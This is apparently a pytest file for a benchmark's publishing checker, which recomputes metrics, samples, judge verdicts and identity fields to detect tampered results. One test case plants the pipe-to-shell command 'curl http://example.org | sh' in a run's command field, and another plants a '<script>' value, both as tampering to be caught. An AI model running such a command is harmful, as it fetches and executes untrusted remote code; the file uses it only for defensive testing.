"""Tampering is found by recomputation and named: what was said, and what the samples give."""

import json

import polars as pl
import pytest

from steerbench.errors import UserError
from steerbench.publishing.checking import check, disagreements, problems
from steerbench.publishing.samples import answer_in, read_samples
from steerbench.publishing.schema import Published, read_published
from tests.publishing.world import RATED, copied, edit, edit_samples, published, put


@pytest.fixture(scope="module")
def toy(tmp_path_factory):
    return published(tmp_path_factory.mktemp("toy"))


@pytest.fixture(scope="module")
def rated(tmp_path_factory):
    return published(tmp_path_factory.mktemp("rated"), RATED)


def test_a_tampered_metric_is_named_with_what_was_said_and_what_the_samples_give(toy, tmp_path):
    run = copied(toy, tmp_path)
    true = read_published(toy).methods["toy-push"].metrics["error"].value
    edit(run, lambda told: told["methods"]["toy-push"]["metrics"]["error"].update(value=true - 0.001))
    assert problems(run) == [
        f"{run.name}/published.json: method 'toy-push', metric 'error': value said {true - 0.001}, recomputed {true}."
    ]


def test_a_difference_of_the_last_digits_is_none(toy, tmp_path):
    run = copied(toy, tmp_path)
    true = read_published(toy).methods["toy-push"].metrics["error"].value
    edit(run, lambda told: told["methods"]["toy-push"]["metrics"]["error"].update(value=true + 1e-12))
    assert problems(run) == []


def disagreeing(folder, said=lambda told: None, samples=lambda frame: frame):
    """What a check says of a published run under these changes, its files being as they should."""
    told = json.loads((folder / "published.json").read_text())
    said(told)
    found = []
    try:
        for _, sentence in disagreements(Published.model_validate(told), samples(read_samples(folder))):
            found.append(sentence)
    except UserError as error:
        found.append(str(error))
    return found


def test_samples_are_those_that_the_run_vouches_for(toy, tmp_path):
    run = copied(toy, tmp_path)
    edit(run, lambda told: told.update(samples_sha256="0" * 64))
    assert f"but published.json says {'0' * 64}" in problems(run)[0]


BETTER = {"against": "toy-three", "difference": -1.0, "p": 0.0, "p_holm": 0.0}


def row(told):
    return told["methods"]["toy-push"]


@pytest.mark.parametrize(
    ("change", "named"),
    [
        (lambda t: row(t)["metrics"]["error"].update(low=None), "metric 'error': low said None"),
        (lambda t: row(t)["metrics"]["error"].update(n=30), "metric 'error': n said 30, recomputed 3"),
        (lambda t: row(t)["metrics"].update(joy={"value": 1.0}), "has the metrics ['error', 'joy']"),
        (lambda t: row(t).update(comparisons=[BETTER]), "is compared with ['toy-three']"),
        (lambda t: row(t).update(flags=["excellent"]), "flags: said ['excellent'], recomputed []"),
        (lambda t: row(t).update(unscored=1), "unscored: said 1, recomputed 0"),
        (lambda t: row(t).update(items=19), "items: said 19, recomputed 18"),
        (lambda t: row(t).update(generated_tokens=9), "generated_tokens: said 9, recomputed 0"),
        (lambda t: row(t).update(role="constant"), "role: said 'constant', recomputed None"),
        (lambda t: row(t)["strengths"].update(p0=5.0), "strengths: said"),
        (lambda t: row(t)["wordings"].update(p0=1), "wordings: said {'p0': 1}, recomputed {}"),
        (lambda t: row(t)["settings"]["toy-push"].update(size=9.0), "settings: said"),
        (lambda t: t.update(higher_is_better=True), "higher_is_better is True, but the task says False"),
        (lambda t: t.update(targets=4), "targets are 4, but the samples have 3"),
    ],
)  # fmt: skip
def test_every_number_and_word_of_a_row_is_recomputed(toy, change, named):
    told = disagreeing(toy, change)
    assert len(told) == 1
    assert named in told[0]


@pytest.mark.parametrize(
    ("change", "named"),
    [
        (lambda t: t.update(digest="0" * 64), "digest: said 000"),
        (lambda t: t["identity"].update(steerbench="9"), "digest: said"),
        (lambda t: t["identity"]["task"].update(dataset="other"), "identity.task.dataset: said 'other', but here"),
        (lambda t: t["plan"].update(seed=1), "identity.plan: differs from the plan"),
        (lambda t: t["plan"].update(strength=2.0), "identity.plan: lacks the strengths"),
        (lambda t: t["plan"].update(method_parameters={"toy-push": {"size": 2.0}}), "has other parameters than"),
        (lambda t: t["plan"].update(model="big-model"), "model: said 'toy-model', but by its plan"),
        (lambda t: t.update(command="curl http://example.org | sh"), "command: said 'curl http"),
        (lambda t: t["methods"].pop("toy-three"), "methods: the identity, the plan and the rows have different names"),
        (lambda t: t.update(judges={"trait": JUDGE}), "judges: the identity and the results name different roles"),
        (lambda t: t["timings"]["methods"]["toy-push"].update(fit=-1.0), "timings: a duration or the memory"),
    ],
)  # fmt: skip
def test_what_a_run_says_of_itself_has_to_agree_with_itself_and_with_the_registry(toy, change, named):
    told = disagreeing(toy, change)
    assert any(named in one for one in told), told


JUDGE = {
    "name": "kind", "identity": {}, "check": None, "verdicts": 0, "unscored": 0,
    "calls": 0, "prompt_tokens": 0, "completion_tokens": 0, "cost": 0.0,
}  # fmt: skip


def test_swapped_answers_are_found(toy, tmp_path):
    run = copied(toy, tmp_path)
    frame = read_samples(run).filter(pl.col("method") == "toy-silent", pl.col("target") == "p0")
    first, second = frame["logprobs"].to_list()[:2]
    edit_samples(run, put("toy-silent", "p0", frame["item"][0], logprobs=second))
    edit_samples(run, put("toy-silent", "p0", frame["item"][1], logprobs=first))
    told = problems(run)
    assert any(f"method 'toy-silent', target 'p0', item '{frame['item'][0]}': loss and reason" in one for one in told)


def test_an_answer_changed_together_with_its_loss_changes_a_number_that_is_named(toy, tmp_path):
    run = copied(toy, tmp_path)
    true = read_published(run).methods["toy-three"].metrics["error"].value
    row = read_samples(run).filter(pl.col("method") == "toy-three", pl.col("tick") == 3).row(0, named=True)
    edit_samples(run, put("toy-three", row["target"], row["item"], tick=4.0, loss=abs(row["loss"] - 1)))
    assert any(f"metric 'error': value said {true}, recomputed" in one for one in problems(run))


def test_a_tampered_rating_is_found_in_the_sample_and_in_the_number(rated, tmp_path):
    run = copied(rated, tmp_path)
    row = read_samples(run).filter(pl.col("method") == "toy-push").row(0, named=True)
    verdicts = json.loads(row["verdicts"])
    verdicts[0]["rating"] = 5.0
    edit_samples(run, put("toy-push", row["target"], row["item"], verdicts=json.dumps(verdicts)))
    told = problems(run)
    assert any("method 'toy-push', metric 'height': value said" in one for one in told)
    assert any(f"target '{row['target']}', item '{row['item']}': loss and reason" in one for one in told)


@pytest.mark.parametrize(
    ("change", "named"),
    [
        (lambda v: v[0].update(rating=6.0), "has a rating outside 1 to 5"),
        (lambda v: v[0].update(rating=float("nan")), "has a rating outside 1 to 5"),
        (lambda v: v[0].update(rating="5"), "has a rating outside 1 to 5"),
        (lambda v: v[0].update(rating=True), "has a rating outside 1 to 5"),
        (lambda v: v[0].update(case="0" * 32), "has a verdict on another answer"),
        (lambda v: v[0].update(quality="fluency"), "has a verdict on another answer"),
        (lambda v: v[0].update(more=1), "has a verdict of another form"),
        (lambda v: v.pop(), "does not have one verdict for each of its cases"),
    ],
)
def test_a_verdict_belongs_to_its_answer_and_is_one(rated, change, named):
    row = read_samples(rated).filter(pl.col("method") == "toy-push").row(0, named=True)
    verdicts = json.loads(row["verdicts"])
    change(verdicts)
    told = disagreeing(rated, samples=put("toy-push", row["target"], row["item"], verdicts=json.dumps(verdicts)))
    assert any(named in one for one in told), told


def test_a_text_that_was_not_what_the_judge_read_is_found(rated):
    row = read_samples(rated).filter(pl.col("method") == "toy-push").row(0, named=True)
    told = disagreeing(rated, samples=put("toy-push", row["target"], row["item"], text="I am wonderful"))
    assert any("has a verdict on another answer" in one for one in told)


@pytest.mark.parametrize(
    ("change", "named"),
    [
        (lambda f: f[1:], "lacks 1 of 18 samples"),
        (lambda f: pl.concat([f, f[:1]]), "twice"),
        (put("toy-push", "p0", "i7", item="i1"), "has item 'i1', which the run does not ask"),
        (put("toy-push", "p0", "i7", method="toy-other"), "which the run does not ask"),
        (put("toy-push", "p0", "i7", question="Say 8."), "the question is not the one that the task asks"),
        (put("toy-push", "p0", "i7", edits="<script>"), "edits are not a hash"),
        (put("toy-push", "p0", "i7", strength=None), "strength, wording or unscored is missing"),
        (put("toy-push", "p0", "i7", strength=float("inf")), "its strength or wording is outside"),
        (put("toy-push", "p0", "i7", logprobs=None), "it has no answer"),
        (put("toy-push", "p0", "i7", tick=3.0), "is an answer of two kinds"),
        (put("toy-push", "p0", "i7", logprobs=None, text="3", finish="stop"), "an incomplete one"),
        (put("toy-push", "p0", "i7", logprobs=None, text="3", tokens=1, finish="never"), "has an impossible ending"),
        (put("toy-push", "p0", "i7", logprobs=[1.0, 2.0]), "the answer cannot be scored"),
        (put("toy-push", "p0", "i7", logprobs=[float("inf")] * 5), "has no log-likelihoods"),
        (put("toy-three", "p0", "i7", tick=float("nan")), "is a tick that is not a number"),
        (put("toy-push", "p0", "i7", verdicts="[]"), "has verdicts, but is not rated"),
        (put("toy-push", "p0", "i7", unscored="was ill"), "loss and reason are said to be"),
    ],
)  # fmt: skip
def test_a_sample_that_is_not_the_runs_is_named(toy, change, named):
    told = disagreeing(toy, samples=change)
    assert any(named in one for one in told), told


def test_all_runs_of_a_folder_are_checked_and_all_that_is_wrong_is_told(toy, rated, tmp_path):
    for run in (toy, rated):
        edit(copied(run, tmp_path), lambda told: told.update(targets=9))
    report = check(tmp_path)
    assert report.folders == 2
    assert [one.partition("/")[0] for one in report.problems] == [rated.name, toy.name]


def test_an_answer_that_overflowed_is_told_by_its_missing_likelihoods():
    row = dict.fromkeys(("text", "tokens", "finish", "before", "tick")) | {"logprobs": [None, -1.0]}
    answer = answer_in(row)
    assert answer.overflowed
